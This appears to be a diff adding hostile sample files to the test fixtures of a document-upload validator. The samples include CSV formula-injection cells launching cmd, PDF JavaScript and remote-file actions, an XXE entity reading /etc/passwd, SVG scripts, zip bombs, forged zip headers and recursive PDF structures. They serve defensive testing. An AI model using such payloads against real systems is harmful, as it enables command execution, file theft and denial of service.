@@ -2,7 +2,9 @@
 
 import io
 import zipfile
+import zlib
 from collections.abc import Mapping
+from functools import partial
 
 import pikepdf
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -16,6 +18,8 @@ RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 OFFICE = "application/vnd.openxmlformats-officedocument"
 DOCX, XLSX = f"{OFFICE}.wordprocessingml.document.main+xml", f"{OFFICE}.spreadsheetml.sheet.main+xml"
 MACRO_RELATION = "http://schemas.microsoft.com/office/2006/relationships"
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+OF_A_LETTER = f"{OFFICE}.wordprocessingml.document"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
 
@@ -156,6 +160,60 @@ def open_document(kind: str = "text", extra: Mapping[str, str | bytes] | None = 
         "Configurations2/images/Bitmaps/": "",
     }
     return archive(members | dict(extra or {}))
+
+
+def with_a_flag(content: bytes, flag: int) -> bytes:
+    """An archive whose parts all say this of themselves."""
+    changed = bytearray(content)
+    for start, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = changed.find(start)
+        while at >= 0:
+            changed[at + place] |= flag
+            at = changed.find(start, at + 4)
+    return bytes(changed)
+
+
+def lying_about_size() -> bytes:
+    """Each part says to be one byte long."""
+    changed = bytearray(docx({"word/header1.xml": "a" * 1_000_000}))
+    at = changed.find(b"PK\x01\x02")
+    while at >= 0:
+        changed[at + 24 : at + 28] = (1).to_bytes(4, "little")
+        at = changed.find(b"PK\x01\x02", at + 4)
+    return bytes(changed)
+
+
+def many_parts() -> bytes:
+    return docx({f"word/media/image{number}.png": b"" for number in range(20_000)}, {"png": "image/png"})
+
+
+def nested(depth: int) -> bytes:
+    """A letter in a letter in a letter."""
+    inside = docx() if depth == 0 else nested(depth - 1)
+    return docx({"word/embeddings/a.docx": inside}, {"docx": OF_A_LETTER})
+
+
+def letter(words: str, declared: str = "") -> bytes:
+    return docx({"word/document.xml": f'{declared}<w:document xmlns:w="{WORD}"><w:p>{words}</w:p></w:document>'})
+
+
+FROM_THIS_MACHINE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+
+
+def png_of(name: bytes, content: bytes) -> bytes:
+    """A picture with a piece of another kind in it."""
+    piece = len(content).to_bytes(4, "big") + name + content + zlib.crc32(name + content).to_bytes(4, "big")
+    sound = image()
+    return sound[:33] + piece + sound[33:]
+
+
+def pages_in_a_ring(file: pikepdf.Pdf) -> None:
+    file.Root.Pages.Kids.append(file.Root.Pages)
+
+
+def much_to_draw(file: pikepdf.Pdf) -> None:
+    """A page of which the drawing grows a thousand times when it is read."""
+    file.pages[0].Contents = pikepdf.Stream(file, zlib.compress(b"BT (x) Tj ET " * 4_000_000), Filter=Name.FlateDecode)
 
 
 def bomb() -> bytes:
@@ -308,4 +366,84 @@ ACTIVE = {
     "an object in an open document": ("a.odt", open_document(extra={"Object 1": OLE}), "programma"),
     "a cell that starts a program": ("a.csv", b"naam\n+cmd|'/c calc'!A0\n", "berekent"),
     "a cell that calculates": ("a.csv", b"naam;x\nAnna;=1+1\n", "berekent"),
+    "a cell that calculates behind a tab": ("a.csv", b"naam\n\t=1+1\n", "berekent"),
+    "a cell that calculates in quotes": ("a.csv", b'naam\n"=1+1"\n', "berekent"),
+    "a cell that calculates in wide letters": ("a.csv", "naam;=1+1".encode("utf-16"), "berekent"),
+    "a cell that begins with an at": ("a.csv", b"naam\n@SUM(1+1)*cmd|' /C calc'!A0\n", "berekent"),
+    "a script under another spelling": (
+        "a.pdf",
+        in_catalog(OpenAction=JAVASCRIPT).replace(b"/JavaScript", b"/Java#53cript"),
+        "een script",
+    ),
+    "a script in a field": (
+        "a.pdf",
+        in_catalog(AcroForm=Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(C=JAVASCRIPT))]))),
+        "een script",
+    ),
+    "a link with a script in two lines": (
+        "a.pdf",
+        annotated(A=action("URI", URI=String("java\nscript:alert(1)"))),
+        "gegevens",
+    ),
+    "a link with a page in it": (
+        "a.pdf",
+        annotated(A=action("URI", URI=String("data:text/html,<script>x()</script>"))),
+        "gegevens",
+    ),
+    "a PDF that opens a file of another computer": (
+        "a.pdf",
+        annotated(A=action("GoToR", F=String("\\\\kwaad.example\\x.pdf"))),
+        "gegevens",
+    ),
+    "a PDF that takes data in": ("a.pdf", annotated(A=action("ImportData", F=String("x.fdf"))), "gegevens"),
+    "a film on a page": ("a.pdf", annotated(Subtype=Name.RichMedia), "film"),
+    "a model in three dimensions": ("a.pdf", annotated(Subtype=Name("/3D")), "film"),
+    "a page of HTML in a letter": (
+        "a.docx",
+        docx({"word/chunk.html": "<script>"}, {"html": "text/html"}),
+        "niet kennen",
+    ),
+    "a control that runs": (
+        "a.docx",
+        docx({"word/activeX/a.xml": "x"}, {"/word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"}),
+        "programma",
+    ),
+    "a script in a drawing in a letter": (
+        "a.docx",
+        docx({"word/media/image1.svg": "<svg onload='x()'/>"}, {"svg": "image/svg+xml"}),
+        "een script",
+    ),
+    "a script in a drawing in an open letter": (
+        "a.odt",
+        open_document(extra={"Pictures/1.svg": "<svg><script>x()</script></svg>"}),
+        "een script",
+    ),
+    "a workbook that asks another program": (
+        "a.xlsx",
+        xlsx({"xl/externalLinks/a.xml": "x"}, {"/xl/externalLinks/a.xml": f"{OFFICE}.spreadsheetml.externalLink+xml"}),
+        "gegevens",
+    ),
+    "a workbook that asks a database": (
+        "a.xlsx",
+        xlsx({"xl/connections.xml": "x"}, {"/xl/connections.xml": f"{OFFICE}.spreadsheetml.connections+xml"}),
+        "gegevens",
+    ),
+    "a letter that reads a file of this machine": ("a.docx", letter("&x;", FROM_THIS_MACHINE), "niet kennen"),
+    "an open letter that reads a file of this machine": (
+        "a.odt",
+        open_document(extra={"content.xml": f"{FROM_THIS_MACHINE}<d>&x;</d>"}),
+        "niet kennen",
+    ),
+    "a letter in a letter in a letter": ("a.docx", nested(3), "niet kennen"),
 }
+
+HARMLESS = {
+    "a PDF with a page of HTML behind it": ("a.pdf", pdf() + b"<script>alert(1)</script>"),
+    "a photo with a page of HTML behind it": ("a.jpg", image("JPEG") + b"<html><script>alert(1)</script>"),
+    "a picture that is an archive too": ("a.png", image() + docx()),
+    "a picture with a script in its remarks": ("a.png", png_of(b"tEXt", b"Comment\0<script>alert(1)</script>")),
+    "a list that looks like a page": ("a.csv", b"<html><script>alert(1)</script></html>"),
+    "a page that grows when it is drawn": ("a.pdf", partial(pdf, much_to_draw)),
+    "a letter that nests very deep": ("a.docx", lambda: docx({"word/document.xml": "<a>" * 200_000})),
+}
+"""What is kept, because it can do nothing: it is only ever sent as a file of its own type, and read apart."""
